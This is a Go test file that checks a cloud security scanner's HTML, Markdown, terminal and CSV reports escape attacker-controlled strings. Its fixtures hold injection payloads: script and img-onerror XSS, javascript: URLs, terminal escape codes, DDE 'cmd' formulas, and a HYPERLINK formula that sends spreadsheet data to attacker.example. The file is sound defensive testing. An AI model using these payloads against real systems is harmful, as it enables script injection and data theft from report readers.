package reports

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/portcullis-sec/portcullis/exposure"
	"github.com/portcullis-sec/portcullis/rules"
)

// Strings an attacker can put in a resource name, tag, rule description or
// exception reason: anyone who can tag a resource writes into the report.
const (
	hostileScript = `<script>alert("pwned")</script>`
	hostileAttr   = `" onmouseover="alert(1)" x="`
	hostileURL    = `javascript:alert(document.cookie)`
	hostileImg    = `<img src=x onerror=alert(2)>`
	hostileMD     = `[click](javascript:alert(3)) | **bold** ` + "`code`"
	hostileTerm   = "\x1b[2J\x1b[31mfake\r\nCRITICAL\u202eevil"
	hostileCSV    = `=HYPERLINK("http://attacker.example/?"&A1,"open")`
)

func hostileReport() *Report {
	r := fixtureReport()
	e := r.Exposures[0]
	e.Target.Name = hostileScript + hostileAttr
	e.Target.Tags = map[string]string{"Name": hostileURL, hostileImg: hostileMD}
	e.Evidence = append(e.Evidence, &exposure.Evidence{Layer: hostileURL, LayerKind: exposure.LayerSecurityGroup,
		LayerName: hostileAttr, Rule: hostileTerm, Action: "allow", Sources: []string{hostileImg}, Note: hostileMD})
	r.Exposures[4].Target.Name = hostileCSV
	r.Exposures[4].Target.ID = "+cmd|' /C calc'!A0"
	r.Findings = append(r.Findings, rules.Finding{RuleID: "custom-" + hostileMD, Title: hostileScript, Severity: rules.Low,
		Exposure: e, Remediation: hostileURL + " " + hostileImg,
		Suppressed: &rules.Suppression{Reason: hostileTerm + hostileAttr, Owner: "@SUM(1+1)*cmd|' /C calc'!A0"}})
	r.Compliance = append(r.Compliance, rules.ControlResult{Framework: hostileImg, Control: hostileCSV, Title: hostileScript,
		Status: rules.StatusFail, Reason: hostileURL, Evidence: []rules.ControlEvidence{{Resource: hostileMD}}})
	r.Misconfigurations = append(r.Misconfigurations, rules.Misconfiguration{Kind: "-2+3", Title: hostileTerm,
		Layer: hostileScript, Message: hostileAttr, Scope: e.Scope})
	r.Errors = append(r.Errors, exposure.Error{Scope: e.Scope, Stage: "collect", Resource: hostileImg, Message: hostileTerm})
	r.Exceptions = append(r.Exceptions, rules.ExceptionStatus{State: rules.ExceptionStale, Exception: rules.Exception{
		Rule: hostileMD, Resource: hostileURL, Reason: hostileScript, Owner: hostileAttr}})
	return r
}

// TestHTMLEscapesCloudStrings parses the page as a browser would: the only
// script is the report's own, no element carries an event handler, no URL
// attribute holds a javascript: URL, and the hostile text is shown as text.
func TestHTMLEscapesCloudStrings(t *testing.T) {
	out := render(t, "html", hostileReport())
	doc, err := html.Parse(bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	var scripts, imgs int
	var text strings.Builder
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script":
				scripts++
			case "img", "iframe", "object", "embed", "link":
				imgs++
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(strings.ToLower(a.Key), "on") {
					t.Errorf("<%s> has event handler attribute %s=%q", n.Data, a.Key, a.Val)
				}
				if (a.Key == "href" || a.Key == "src" || a.Key == "action") && !strings.HasPrefix(a.Val, "#") {
					t.Errorf("<%s> has %s=%q: the page must not link out", n.Data, a.Key, a.Val)
				}
				// x is the hostile attribute's name; SVG text and shapes of
				// the charts have x of their own (numbers).
				if a.Key == "x" && (n.Namespace != "svg" || strings.Trim(a.Val, "0123456789.-") != "") {
					t.Errorf("<%s> has an attribute injected by a cloud string", n.Data)
				}
			}
		}
		if n.Type == html.TextNode && (n.Parent == nil || n.Parent.Data != "script" && n.Parent.Data != "style") {
			text.WriteString(n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if scripts != 1 {
		t.Errorf("page has %d <script> elements, want only its own", scripts)
	}
	if imgs != 0 {
		t.Errorf("page has %d embedded/fetching elements, want none", imgs)
	}
	for _, s := range []string{hostileScript, hostileImg, `" onmouseover="alert(1)`} {
		if !strings.Contains(text.String(), s) {
			t.Errorf("hostile string %q is not shown as text", s)
		}
	}
	if !bytes.Contains(out, []byte("Content-Security-Policy")) {
		t.Error("page has no Content-Security-Policy")
	}
}

func TestMarkdownEscapesCloudStrings(t *testing.T) {
	out := string(render(t, "markdown", hostileReport()))
	for _, bad := range []string{"<script", "<img", "**bold**", "`code`", "\x1b", "\u202e"} {
		if strings.Contains(out, bad) {
			t.Errorf("markdown contains unescaped %q", bad)
		}
	}
	if regexp.MustCompile(`(^|[^\\])\]\(javascript:`).MatchString(out) {
		t.Error("markdown contains a javascript: link")
	}
	// Every table row keeps its column count: injected pipes are escaped.
	for i, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "| **") || !strings.Contains(line, "custom-") {
			continue
		}
		if n := strings.Count(line, "|") - strings.Count(line, `\|`); n != 11 {
			t.Errorf("line %d has %d cell separators, want 11: %s", i+1, n, line)
		}
	}
}

func TestTableEscapesCloudStrings(t *testing.T) {
	out := string(render(t, "table", hostileReport()))
	for _, bad := range []string{"\x1b", "\r", "\u202e"} {
		if strings.Contains(out, bad) {
			t.Errorf("table output contains raw %q", bad)
		}
	}
	if !strings.Contains(out, `\x1b[2J`) {
		t.Error("control characters should be shown escaped")
	}
}

func TestCSVDefusesFormulas(t *testing.T) {
	for _, opts := range []CSVOptions{{}, {Exposures: true}} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, hostileReport(), opts); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("output is not valid CSV: %v", err)
		}
		found := 0
		for _, rec := range recs {
			for _, cell := range rec {
				if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("cell %q would be read as a formula", cell)
				}
				if strings.HasPrefix(cell, "'=HYPERLINK") || strings.HasPrefix(cell, "'+cmd") {
					found++
				}
			}
		}
		if found == 0 {
			t.Errorf("exposures=%v: hostile cells missing from the output", opts.Exposures)
		}
	}
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"":               "",
		"web-1":          "web-1",
		"=1+1":           "'=1+1",
		"+1":             "'+1",
		"-1":             "'-1",
		"@SUM(A1)":       "'@SUM(A1)",
		"\tx":            "'\tx",
		"\rx":            "'\rx",
		"  =1":           "'  =1",
		"＝1+1":           "'＝1+1",
		"203.0.113.0/24": "203.0.113.0/24",
		"a=b":            "a=b",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}
